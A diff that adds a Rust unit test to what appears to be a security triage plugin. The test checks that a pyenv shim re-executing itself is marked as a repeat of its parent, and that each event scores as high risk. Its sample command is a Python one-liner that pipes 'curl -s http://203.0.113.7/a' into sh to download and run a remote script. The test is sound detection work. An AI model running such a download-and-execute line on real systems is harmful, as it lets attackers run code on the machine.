@@ -455,3 +455,42 @@ fn a_wrapper_chain_marks_the_repeat() {
         ExtractedField::Bool(false)
     );
 }
+
+#[test]
+fn a_shim_that_re_execs_in_place_marks_the_repeat() {
+    // The pyenv shim: `python3 -c CODE` (the shim script), then, in the same process with the
+    // same parent, `pyenv exec python3 -c CODE`: the thread table shows no parent that ran it.
+    let code = "import os; os.system('curl -s http://203.0.113.7/a | sh')";
+    let shim = Exec::new(
+        3_000,
+        970,
+        901,
+        "/root/.pyenv/shims/python3",
+        &["python3", "-c", code],
+    );
+    let pyenv = Exec::new(
+        3_001,
+        970,
+        901,
+        "/root/.pyenv/libexec/pyenv",
+        &["/root/.pyenv/libexec/pyenv", "exec", "python3", "-c", code],
+    );
+    // Another process running the same line is its own first exec.
+    let other = Exec::new(
+        3_002,
+        971,
+        901,
+        "/root/.pyenv/libexec/pyenv",
+        &["/root/.pyenv/libexec/pyenv", "exec", "python3", "-c", code],
+    );
+    let events = vec![shim.to_bytes(), pyenv.to_bytes(), other.to_bytes()];
+    let mut h = Harness::new(c"{}", true, events);
+    for expected in [false, true, false] {
+        let ev = h.next_event();
+        assert!(matches!(h.field(&ev, "triage.risk"), ExtractedField::U64(r) if r >= 80));
+        assert_eq!(
+            h.field(&ev, "triage.repeat_of_parent"),
+            ExtractedField::Bool(expected)
+        );
+    }
+}
